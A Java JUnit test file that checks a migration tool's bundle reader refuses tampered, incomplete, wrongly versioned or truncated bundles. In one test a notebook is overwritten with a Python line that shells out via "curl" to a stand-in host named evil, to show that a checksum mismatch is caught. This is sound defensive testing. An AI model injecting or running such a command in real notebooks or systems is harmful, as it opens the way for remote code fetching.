package ca.gc.fsdh.bot.migration.bundle;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ca.gc.fsdh.bot.migration.item.ResourceType;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Bad bundles are refused with a clear reason when opened, before any import can start. */
class BundleReaderTest {
  @TempDir Path dir;
  Path bundle;

  @BeforeEach
  void writeBundle() throws Exception {
    bundle = dir.resolve("bundle");
    var writer = new BundleWriter(bundle);
    try (var journal = ExportJournal.open(bundle)) {
      var ref =
          writer.write(
              "notebooks/source/Shared/etl.py",
              "# Databricks notebook source\nprint(1)\n".getBytes());
      journal.record(
          JournalEntry.exported(
              ResourceType.NOTEBOOKS,
              "/Shared/etl",
              List.of(ref),
              BundleJson.MAPPER
                  .createObjectNode()
                  .put("path", "/Shared/etl")
                  .put("objectType", "NOTEBOOK")));
    }
    new BundleFinisher()
        .finish(
            bundle,
            new BundleFinisher.RunInfo(
                "test", "http://poc", "SOURCE", Set.of(ResourceType.NOTEBOOKS), "NONE"));
  }

  @Test
  void aCompleteBundleOpensAndListsItsItems() throws Exception {
    try (var r = BundleReader.open(bundle)) {
      var ids = new ArrayList<String>();
      r.items(ResourceType.NOTEBOOKS, e -> ids.add(e.id()));
      assertThat(ids).containsExactly("/Shared/etl");
    }
  }

  @Test
  void aTamperedFileIsRefusedByItsChecksum() throws Exception {
    Files.writeString(
        bundle.resolve("notebooks/source/Shared/etl.py"), "import os; os.system('curl evil')\n");
    assertThatThrownBy(() -> BundleReader.open(bundle))
        .isInstanceOf(BadBundleException.class)
        .hasMessageContaining("checksum mismatch for notebooks/source/Shared/etl.py")
        .hasMessageContaining("nothing was imported");
  }

  @Test
  void aMissingFileIsRefused() throws Exception {
    Files.delete(bundle.resolve("notebooks/source/Shared/etl.py"));
    assertThatThrownBy(() -> BundleReader.open(bundle))
        .isInstanceOf(BadBundleException.class)
        .hasMessageContaining("missing, first notebooks/source/Shared/etl.py");
  }

  @Test
  void anUnknownFormatVersionIsRefused() throws Exception {
    Path m = bundle.resolve(BundleManifest.FILE);
    Files.writeString(
        m, Files.readString(m).replace("\"formatVersion\" : 1", "\"formatVersion\" : 99"));
    assertThatThrownBy(() -> BundleReader.open(bundle))
        .isInstanceOf(BadBundleException.class)
        .hasMessageContaining("unknown bundle format version 99")
        .hasMessageContaining("reads format 1");
  }

  @Test
  void anUnfinishedExportWithoutManifestIsRefused() throws Exception {
    Files.delete(bundle.resolve(BundleManifest.FILE));
    assertThatThrownBy(() -> BundleReader.open(bundle))
        .isInstanceOf(BadBundleException.class)
        .hasMessageContaining("manifest.json is missing");
  }

  @Test
  void theOffboardingZipOpensAndATruncatedOneIsRefused() throws Exception {
    Path zip = OffboardPackage.write(bundle, dir.resolve("ABC-offboarding.zip"), "ABC");
    try (var r = BundleReader.open(zip)) {
      assertThat(r.manifest().sourceHost()).isEqualTo("http://poc");
      assertThat(Files.readString(r.file(OffboardPackage.README)))
          .contains("## English")
          .contains("## Français")
          .contains("gpg --decrypt");
    }
    byte[] bytes = Files.readAllBytes(zip);
    Path truncated = dir.resolve("truncated.zip");
    Files.write(truncated, Arrays.copyOf(bytes, bytes.length / 2));
    assertThatThrownBy(() -> BundleReader.open(truncated))
        .isInstanceOf(BadBundleException.class)
        .hasMessageContaining("truncated");
  }
}
